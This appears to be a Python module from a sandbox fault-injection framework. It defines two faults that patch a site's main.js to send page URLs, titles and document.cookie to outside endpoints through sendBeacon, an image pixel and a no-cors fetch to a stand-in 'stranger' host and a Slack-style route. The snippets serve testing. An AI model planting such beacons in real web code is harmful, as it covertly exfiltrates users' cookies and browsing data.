"""Faults of pages that tell others than the product what a person does."""

from __future__ import annotations

from typing import ClassVar

from sandbox.faults.web_change import Change, WebChangeFault

_NOTE = "JSON.stringify({ page: location.href, cookie: document.cookie, title: document.title })"


class TellsAStranger(WebChangeFault):
    id: ClassVar[str] = "web.tells-a-stranger"
    title: ClassVar[str] = "Every page sends its address and title to somebody else's host"
    changes: ClassVar[tuple[Change, ...]] = (
        Change(
            "main.js",
            "start();",
            (
                f'start();\nnavigator.sendBeacon("https://collector.stranger.invalid/in", {_NOTE});\n'
                'new Image().src = "https://collector.stranger.invalid/pixel?page=" + '
                "encodeURIComponent(location.href);"
            ),
        ),
    )


class TellsAThirdParty(WebChangeFault):
    id: ClassVar[str] = "web.tells-a-third-party"
    title: ClassVar[str] = "Every page posts what it shows to another route of the recorder's host"
    changes: ClassVar[tuple[Change, ...]] = (
        Change(
            "main.js",
            "start();",
            (
                "start();\n"
                'const recorder = new URL(document.querySelector("script[async]").src).origin;\n'
                'fetch(`${recorder}/slack/services/T000/B000/sandbox`, { method: "POST", mode: '
                f'"no-cors", keepalive: true, body: {_NOTE} }}).catch(() => {{}});'
            ),
        ),
    )
